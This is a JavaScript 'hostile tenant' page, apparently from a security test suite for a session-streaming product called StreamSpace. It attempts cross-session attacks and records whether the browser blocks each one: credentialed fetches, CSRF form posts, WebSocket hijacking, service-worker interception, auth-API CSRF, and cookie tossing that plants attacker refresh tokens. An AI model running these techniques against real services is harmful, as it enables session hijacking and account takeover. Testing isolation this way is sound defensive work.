// The hostile tenant: everything a page served from one StreamSpace session can try against another
// session its viewer has open, and against the viewer's StreamSpace credentials.
//
// Parameters (the URL fragment, or `window.hostile.run(params)` when the page is framed by someone
// else who decides its URL):
//   victim  the other session's URL, as its viewer's browser has it (ticket already traded)
//   ui      the StreamSpace UI's origin
//   nonce   marks this run's requests, so the victim's request log shows which ones arrived
//   plant   comma-separated refresh tokens of the attacker's own account, to plant as cookies
//
// Each attack publishes `{blocked, detail}` into `window.__results` and `<pre id=results>`. Attacks
// whose effect lands elsewhere (a blind POST, a planted cookie) publish `blocked: null`: only the test
// can look at the victim's request log, the browser's cookie jar and the audit log.
'use strict';

const results = {};
window.__results = results;
const FRAME_LOAD_LIMIT_MS = 15000;

const VERDICTS = new Map([[null, 'sent, the test decides'], [true, 'blocked'], [false, 'SUCCEEDED'], ['error', 'ERROR']]);
const verdict = (outcome) => VERDICTS.get(outcome.blocked);

function publish(name, outcome) {
  results[name] = outcome;
  document.getElementById('results').textContent = JSON.stringify(results, null, 2);
  document.getElementById('summary').textContent = Object.entries(results)
    .filter(([, value]) => typeof value === 'object')
    .map(([key, value]) => `${key.padEnd(22)} ${verdict(value)}`)
    .join('\n');
}

const describe = (err) => `${err && err.name ? err.name : 'Error'}: ${err && err.message ? err.message : err}`;

/**
 * What the browser throws when it refuses: a DOMException (SecurityError, NotSupportedError, ...) or
 * fetch's network TypeError. Anything else is a bug of this page: `blocked: 'error'`, which fails the
 * test instead of passing for a refusal that never happened.
 */
function refusal(err) {
  const refused = err instanceof DOMException || (err instanceof TypeError && err.message === 'Failed to fetch');
  return refused ? { blocked: true, detail: `threw ${describe(err)}` } : { blocked: 'error', detail: `the attack page broke: ${describe(err)}` };
}

/** Runs one attack; the browser's refusal is an answer too, never a crash. */
async function attempt(name, attack) {
  const start = Date.now();
  let outcome;
  try {
    outcome = await attack();
  } catch (err) {
    outcome = refusal(err);
  }
  // When it ran, to match the server's audit log against this attack alone.
  publish(name, { ...outcome, at: [start, Date.now()] });
}

/** Whether `text` is the victim's echo of the request to `marker` (proof the victim app answered). */
function isEcho(text, marker) {
  try {
    return JSON.parse(text).path.endsWith(marker);
  } catch {
    return false;
  }
}

async function readVictim(p) {
  const marker = `/echo/hostile-read-${p.nonce}`;
  const reply = await fetch(new URL(marker.slice(1), p.victim), { credentials: 'include' });
  const text = await reply.text();
  const read = isEcho(text, marker);
  return { blocked: !read, detail: `status ${reply.status}, ${read ? 'read the victim\'s echo' : 'no echo'}: ${text.slice(0, 160)}` };
}

async function blindPost(p) {
  const marker = `echo/hostile-nocors-${p.nonce}`;
  await fetch(new URL(marker, p.victim), { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'hostile' });
  return { blocked: null, marker, detail: 'sent; the victim\'s request log decides' };
}

/** The next load event of `element` (a blocked page loads an error page), or word that none came. */
function nextLoad(element) {
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve('load'), { once: true });
    setTimeout(() => resolve('no load event'), FRAME_LOAD_LIMIT_MS);
  });
}

function frame(id, src, name) {
  const element = document.createElement('iframe');
  element.id = id;
  if (name) element.name = name;
  const loaded = nextLoad(element);
  if (src) element.src = src;
  document.getElementById('frames').append(element);
  return { element, loaded };
}

/** A form POST is a navigation, not a subresource request: CORS and Fetch Metadata treat it apart. */
async function formPost(p, kind) {
  const marker = `echo/hostile-form-${kind}-${p.nonce}`;
  const form = document.createElement('form');
  form.method = 'POST';
  form.enctype = 'text/plain';
  form.action = new URL(marker, p.victim).href;
  const field = document.createElement('input');
  field.name = 'hostile';
  field.value = p.nonce;
  form.append(field);
  let loaded = Promise.resolve('new window');
  if (kind === 'frame') {
    const sink = frame('form-sink', '', `form-sink-${p.nonce}`);
    await sink.loaded; // its about:blank, before the POST navigates it
    form.target = sink.element.name;
    loaded = nextLoad(sink.element);
  } else {
    form.target = '_blank';
  }
  document.body.append(form);
  form.submit();
  return { blocked: null, marker, detail: `submitted (${await loaded}); the victim's request log decides` };
}

function websocket(p) {
  const url = new URL('ws', p.victim);
  url.protocol = url.protocol === 'https:' ? 'wss:' : 'ws:';
  const message = `hostile-${p.nonce}`;
  return new Promise((resolve) => {
    const ws = new WebSocket(url);
    let opened = false;
    ws.onopen = () => {
      opened = true;
      ws.send(message);
    };
    ws.onmessage = (event) => {
      resolve({ blocked: false, detail: `opened ${url}; echoed: ${event.data === message}` });
      ws.close();
    };
    ws.onclose = (event) =>
      resolve({ blocked: !opened, detail: `${opened ? 'opened, then ' : ''}closed with code ${event.code} before an echo` });
  });
}

async function frameVictim(p) {
  const { element, loaded } = frame('victim-frame', p.victim);
  const how = await loaded;
  let text = null;
  let error = '';
  try {
    text = element.contentDocument ? element.contentDocument.body.innerText : null;
  } catch (err) {
    error = describe(err);
  }
  return {
    blocked: text === null,
    detail: text === null ? `${how}; the victim's document is not readable ${error}` : `${how}; read: ${text.slice(0, 120)}`,
  };
}

/** Asks the service worker something over a message channel. */
function ask(worker, message) {
  return new Promise((resolve) => {
    const channel = new MessageChannel();
    channel.port1.onmessage = (event) => resolve(event.data);
    worker.postMessage(message, [channel.port2]);
  });
}

async function activeWorker(registration) {
  const worker = registration.active || registration.waiting || registration.installing;
  while (worker.state !== 'activated') {
    if (worker.state === 'redundant') throw new Error('the service worker became redundant');
    await new Promise((resolve) => worker.addEventListener('statechange', resolve, { once: true }));
  }
  return worker;
}

/** The widest scope the page can get: its whole origin when the script's headers allow it. */
async function register() {
  const refused = [];
  for (const scope of ['/', './']) {
    try {
      return { registration: await navigator.serviceWorker.register('sw.js', { scope }), refused };
    } catch (err) {
      refused.push(`scope ${scope}: ${describe(err)}`);
    }
  }
  return { registration: null, refused };
}

async function serviceWorker(p) {
  if (!('serviceWorker' in navigator)) {
    const outcome = { blocked: true, detail: 'no service worker API here' };
    publish('sw-read', outcome);
    publish('sw-intercept', outcome);
    return;
  }
  const { registration, refused } = await register();
  if (!registration) {
    const outcome = { blocked: true, detail: `registration refused: ${refused.join('; ')}` };
    publish('sw-read', outcome);
    publish('sw-intercept', outcome);
    return;
  }
  const worker = await activeWorker(registration);
  const scope = `registered with scope ${registration.scope}`;
  await attempt('sw-read', async () => {
    const marker = `/echo/hostile-sw-${p.nonce}`;
    const reply = await ask(worker, { type: 'read', url: new URL(marker.slice(1), p.victim).href });
    const read = isEcho(reply.text || '', marker);
    return { blocked: !read, detail: `${scope}; ${reply.error || `status ${reply.status}`}: ${(reply.text || '').slice(0, 120)}` };
  });
  await attempt('sw-intercept', async () => {
    const probe = new URL(p.victim);
    probe.searchParams.set('hostile-sw-probe', p.nonce);
    const how = await frame('sw-probe-frame', probe.href).loaded;
    const { seen } = await ask(worker, { type: 'seen' });
    const intercepted = seen.filter((url) => url.startsWith(p.victim));
    return {
      blocked: intercepted.length === 0,
      detail: `${scope}; probe frame: ${how}; the worker saw ${intercepted.length ? intercepted.join(', ') : 'none of the victim\'s navigations'}`,
    };
  });
}

/** A response the page can read, or the reason it cannot. */
async function readable(url, init) {
  const reply = await fetch(url, { credentials: 'include', ...init });
  return { status: reply.status, text: await reply.text() };
}

async function apiAttacks(p) {
  await attempt('api-read-sessions', async () => {
    const { status, text } = await readable(`${p.ui}/api/v1/sessions`);
    return { blocked: status !== 200, detail: `readable: status ${status}: ${text.slice(0, 160)}` };
  });
  await attempt('api-refresh-cors', async () => {
    const { status, text } = await readable(`${p.ui}/api/v1/auth/refresh`, {
      method: 'POST',
      headers: { 'x-streamspace-csrf': '1' },
    });
    return { blocked: !text.includes('access_token'), detail: `readable: status ${status}: ${text.slice(0, 160)}` };
  });
  for (const route of ['refresh', 'logout']) {
    await attempt(`api-${route}-nocors`, async () => {
      await fetch(`${p.ui}/api/v1/auth/${route}`, { method: 'POST', mode: 'no-cors', credentials: 'include' });
      return { blocked: null, detail: 'sent; the audit log and the viewer\'s next sign-in decide' };
    });
  }
}

/** Refresh cookies the attacker would like the UI's origin to send instead of the viewer's. */
const PLANTS = [
  ['cookie-longer-path', (t, host) => `ss_refresh=${t}; path=/api/v1/auth/refresh; samesite=none; secure`],
  ['cookie-parent-domain', (t, host) => `ss_refresh=${t}; domain=${host}; path=/api/v1/auth; samesite=none; secure`],
  ['cookie-host-prefix', (t, host) => `__Host-ss_refresh=${t}; path=/; samesite=none; secure`],
  ['cookie-secure-prefix', (t, host) => `__Secure-ss_refresh=${t}; domain=${host}; path=/api/v1/auth/refresh; samesite=none; secure`],
];

function plantCookies(p) {
  const host = new URL(p.ui).hostname;
  PLANTS.forEach(([name, cookie], i) => {
    const token = p.plant[i];
    let detail;
    try {
      document.cookie = cookie(token, host);
      detail = `planted; visible to this page: ${document.cookie.includes(token)}`;
    } catch (err) {
      detail = `document.cookie threw ${describe(err)}`; // a sandboxed, opaque origin
    }
    publish(name, { blocked: null, token, detail: `${detail}; the UI origin's cookie jar decides` });
  });
}

function parameters(source) {
  const get = (key) => (source instanceof URLSearchParams ? source.get(key) : source[key]) || '';
  const plant = get('plant');
  return { victim: get('victim'), ui: get('ui'), nonce: get('nonce'), plant: Array.isArray(plant) ? plant : plant.split(',') };
}

async function run(source) {
  const p = parameters(source);
  if (!p.victim || !p.ui || !p.nonce || p.plant.length !== PLANTS.length) {
    throw new Error(`need victim, ui, nonce and ${PLANTS.length} plant tokens`);
  }
  document.getElementById('status').textContent = `attacking ${p.victim} and ${p.ui}`;
  results.startedAt = Date.now();
  await attempt('fetch-read', () => readVictim(p));
  await attempt('fetch-nocors-post', () => blindPost(p));
  await attempt('form-post-frame', () => formPost(p, 'frame'));
  await attempt('form-post-window', () => formPost(p, 'window'));
  await attempt('websocket', () => websocket(p));
  await attempt('iframe-read', () => frameVictim(p));
  await serviceWorker(p).catch((err) => {
    for (const name of ['sw-read', 'sw-intercept']) {
      if (!results[name]) publish(name, refusal(err));
    }
  });
  await apiAttacks(p);
  // Last: a planted cookie that works would change who the viewer is for every later request.
  plantCookies(p);
  results.finishedAt = Date.now();
  document.getElementById('status').textContent = 'done';
  window.__hostileDone = true;
  return results;
}

window.hostile = { run };
const fromFragment = new URLSearchParams(location.hash.slice(1));
if (fromFragment.get('victim')) run(fromFragment);
